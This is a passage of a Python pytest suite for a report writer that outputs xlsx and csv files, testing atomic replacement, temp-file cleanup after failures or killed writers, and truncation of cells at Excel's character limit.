    monkeypatch.setattr(report_xlsx, "MAX_SHEET_ROWS", 3)
    write_report(tmp_path / "r.xlsx", stream(record(1), record(2)), INFO)
    sheets = openpyxl.load_workbook(tmp_path / "r.xlsx").sheetnames
    assert sheets == ["Summary", "Results", "Print"]
    assert "Results sheets" not in xlsx_summary(tmp_path / "r.xlsx")


# --- files --------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["r.xlsx", "r.csv"])
def test_existing_report_is_replaced_and_no_temp_file_is_left(tmp_path: Path, name: str) -> None:
    """Writing over an old report replaces it, leaving only the report files in the folder."""
    (tmp_path / name).write_text("old report")
    write_report(tmp_path / name, stream(record()), INFO)
    expected = {name} if name.endswith("xlsx") else {name, "r.summary.csv"}
    assert {p.name for p in tmp_path.iterdir()} == expected
    assert (tmp_path / name).read_bytes() != b"old report"


@pytest.mark.parametrize("name", ["r.xlsx", "r.csv"])
def test_failure_midway_keeps_the_old_report(tmp_path: Path, name: str) -> None:
    """If the rows stop coming with an error, the old report stays whole and no temp file stays."""

    def broken() -> Iterator[RowRecord]:
        yield record(1)
        raise RuntimeError("ledger vanished")

    (tmp_path / name).write_text("old report")
    with pytest.raises(RuntimeError, match="ledger vanished"):
        write_report(tmp_path / name, broken(), INFO)
    assert {p.name for p in tmp_path.iterdir()} == {name}
    assert (tmp_path / name).read_text() == "old report"


def test_failed_xlsx_leaves_no_scratch_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """When the rows stop with an error, openpyxl's scratch files for the sheets are deleted."""

    def broken() -> Iterator[RowRecord]:
        yield record(1)
        raise RuntimeError("ledger vanished")

    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    with pytest.raises(RuntimeError, match="ledger vanished"):
        write_report(tmp_path / "r.xlsx", broken(), INFO)
    assert list(scratch.iterdir()) == []


def test_missing_parent_directory_is_created(tmp_path: Path) -> None:
    """The report's folder is created when it does not exist yet."""
    path = write_report(tmp_path / "out" / "2026" / "r.xlsx", stream(record()), INFO)
    assert path == tmp_path / "out" / "2026" / "r.xlsx"
    assert xlsx_rows(path)[1][0] == 1


@pytest.mark.parametrize("name", ["r.XLSX", "r.Csv"])
def test_suffix_is_case_insensitive(tmp_path: Path, name: str) -> None:
    """Upper- or mixed-case suffixes pick the same format."""
    path = write_report(tmp_path / name, stream(record()), INFO)
    if name.lower().endswith(".xlsx"):
        assert xlsx_rows(path)[1][0] == 1
    else:
        assert csv_rows(path)[0]["row"] == "1"


@pytest.mark.parametrize("name", ["r.txt", "r.xls", "report", "r.csv.bak"])
def test_unknown_suffix_is_a_config_error(tmp_path: Path, name: str) -> None:
    """Any suffix but .xlsx or .csv raises ConfigError with one line, writing nothing."""
    with pytest.raises(ConfigError) as caught:
        write_report(tmp_path / name, stream(record()), INFO)
    assert "\n" not in str(caught.value)
    assert caught.value.exit_code == 2
    assert list(tmp_path.iterdir()) == []


# --- Excel's cell limit -------------------------------------------------------------------------


def _utf16_units(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def test_xlsx_cell_over_excels_limit_is_cut_visibly_and_csv_keeps_all(tmp_path: Path) -> None:
    """An error of 40,000 characters: the xlsx cell holds its start and a marker saying it was
    cut (and where the whole is), within Excel's 32,767; the CSV holds every character; a
    report.cell_cut warning names the row and column."""
    error = "E" + "x" * 39_998 + "Z"
    rec = record(7, status=RowStatus.FAILED, error=error)
    with structlog.testing.capture_logs() as events:
        write_report(tmp_path / "r.xlsx", stream(rec), INFO)
    write_report(tmp_path / "r.csv", stream(rec), INFO)
    (row,) = xlsx_cells(tmp_path / "r.xlsx")
    cell = row["error"].value
    assert len(cell) <= report.MAX_CELL_CHARS
    assert cell.startswith("E" + "x" * 30_000)
    assert cell.endswith("… [cut: 40000 characters; a CSV report and the ledger hold all]")
    assert csv_rows(tmp_path / "r.csv")[0]["error"] == error
    cuts = [e for e in events if e["event"] == "report.cell_cut"]
    assert cuts == [
        {
            "event": "report.cell_cut",
            "log_level": "warning",
            "sheet": "Results",
            "row": 7,
            "column": "error",
            "characters": 40_000,
        }
    ]


def test_xlsx_cut_counts_as_excel_does_and_never_splits_a_character(tmp_path: Path) -> None:
    """Excel counts UTF-16 units: 20,000 emoji (40,000 units) are cut too, on a whole emoji."""
    rec = record(status=RowStatus.FAILED, error="😀" * 20_000)
    write_report(tmp_path / "r.xlsx", stream(rec), INFO)
    (row,) = xlsx_cells(tmp_path / "r.xlsx")
    cell = row["error"].value
    assert _utf16_units(cell) <= report.MAX_CELL_CHARS
    head, _, marker = cell.partition("…")
    assert set(head.strip()) == {"😀"}
    assert "20000 characters" in marker


def test_xlsx_cell_at_excels_limit_is_kept_whole(tmp_path: Path) -> None:
    """Exactly 32,767 characters fit: nothing is cut, nothing logged."""
    error = "y" * report.MAX_CELL_CHARS
    with structlog.testing.capture_logs() as events:
        write_report(tmp_path / "r.xlsx", stream(record(error=error)), INFO)
    assert xlsx_cells(tmp_path / "r.xlsx")[0]["error"].value == error
    assert [e for e in events if e["event"] == "report.cell_cut"] == []


def test_long_extra_column_and_summary_values_are_cut_too(tmp_path: Path) -> None:
    """Every text cell is held to the limit: a job's extra column, the Summary's job file."""
    long = "j" * 40_000
    info = RunInfo(run_key="k", provider="uncash", job_file=long, extra_columns=("department",))
    rec = record(3, extra=(("department", long),))
    with structlog.testing.capture_logs() as events:
        write_report(tmp_path / "r.xlsx", stream(rec), info)
    (row,) = xlsx_cells(tmp_path / "r.xlsx")
    assert len(row["department"].value) <= report.MAX_CELL_CHARS
    assert len(xlsx_summary(tmp_path / "r.xlsx")["job file"]) <= report.MAX_CELL_CHARS
    where = {(e["sheet"], e["row"], e["column"]) for e in events if e["event"] == "report.cell_cut"}
    assert where == {("Results", 3, "department"), ("Summary", "job file", "value")}


# --- temporary files ----------------------------------------------------------------------------


def _dead_pid() -> int:
    """The pid of a process that has exited and been reaped."""
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def _temp_name(target: str, pid: int) -> str:
    return f".{target}.{report.temp_host()}.{pid}.0123456789ab.tmp"


@pytest.mark.parametrize("name", ["r.xlsx", "r.csv"])
def test_stale_temp_file_of_a_dead_writer_is_removed_at_the_next_write(
    tmp_path: Path, name: str
) -> None:
    """A temp file left by a writer that died (SIGKILL) is removed by the next write of the
    same report; one of a live writer, or of another report, is left alone."""
    dead = tmp_path / _temp_name(name, _dead_pid())
    alive = tmp_path / _temp_name(name, os.getppid())
    other = tmp_path / _temp_name("other.xlsx", _dead_pid())
    for path in (dead, alive, other):
        path.write_text("half a report")
    write_report(tmp_path / name, stream(record()), INFO)
    assert not dead.exists()
    assert alive.exists()
    assert other.exists()


def test_stale_temp_file_of_the_failed_rows_job_is_removed(tmp_path: Path) -> None:
    """The failed-rows job cleans up after a killed writer of its own file too."""
    target = tmp_path / "r.failed.csv"
    dead = tmp_path / _temp_name(target.name, _dead_pid())
    dead.write_text("half a job")
    written = report.write_failed_rows(
        target, stream(record(status=RowStatus.FAILED, error="no")), ()
    )
    assert written == 1
    assert {p.name for p in tmp_path.iterdir()} == {"r.failed.csv"}


def test_failed_rows_job_failing_midway_leaves_no_temp_file(tmp_path: Path) -> None:
    """If the rows stop with an error, the failed-rows job leaves no temp file behind."""

    def broken() -> Iterator[RowRecord]:
        yield record(1, status=RowStatus.FAILED, error="no")
        raise RuntimeError("ledger vanished")

    with pytest.raises(RuntimeError, match="ledger vanished"):
        report.write_failed_rows(tmp_path / "r.failed.csv", broken(), ())
    assert list(tmp_path.iterdir()) == []


_KILLED_WRITER = """
import sys
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from runner.domain import RowRecord, RowStatus, RunInfo
from runner.report import write_report

def rows():
    yield RowRecord(row=1, card_id="c", amount=Decimal("5.00"), reference="r",
                    status=RowStatus.SUCCEEDED)
    print("writing", flush=True)
    sys.stdin.readline()  # blocks: the test kills the process here, mid-write

write_report(Path(sys.argv[1]), rows(), RunInfo(run_key="k", provider="uncash", job_file="j"))
"""


@pytest.mark.parametrize("name", ["r.xlsx", "r.csv"])
def test_report_writer_killed_midway_leaves_nothing_after_the_next_write(
    tmp_path: Path, name: str
) -> None:
    """A writer SIGKILLed mid-write leaves its temp file; the next write of the report removes
    it, and the folder holds only the report files."""
    target = tmp_path / name
    writer = subprocess.Popen(
        [sys.executable, "-c", _KILLED_WRITER, str(target)],
        cwd=ROOT,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert writer.stdout is not None
        assert writer.stdout.readline() == "writing\n"
    finally:
        writer.kill()
        writer.wait()
        if writer.stdin is not None:
            writer.stdin.close()
        if writer.stdout is not None:
            writer.stdout.close()
    left = [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    assert left, "the killed writer left no temp file: the test proves nothing"
    write_report(target, stream(record()), INFO)
    expected = {name} if name.endswith("xlsx") else {name, "r.summary.csv"}
    assert {p.name for p in tmp_path.iterdir()} == expected
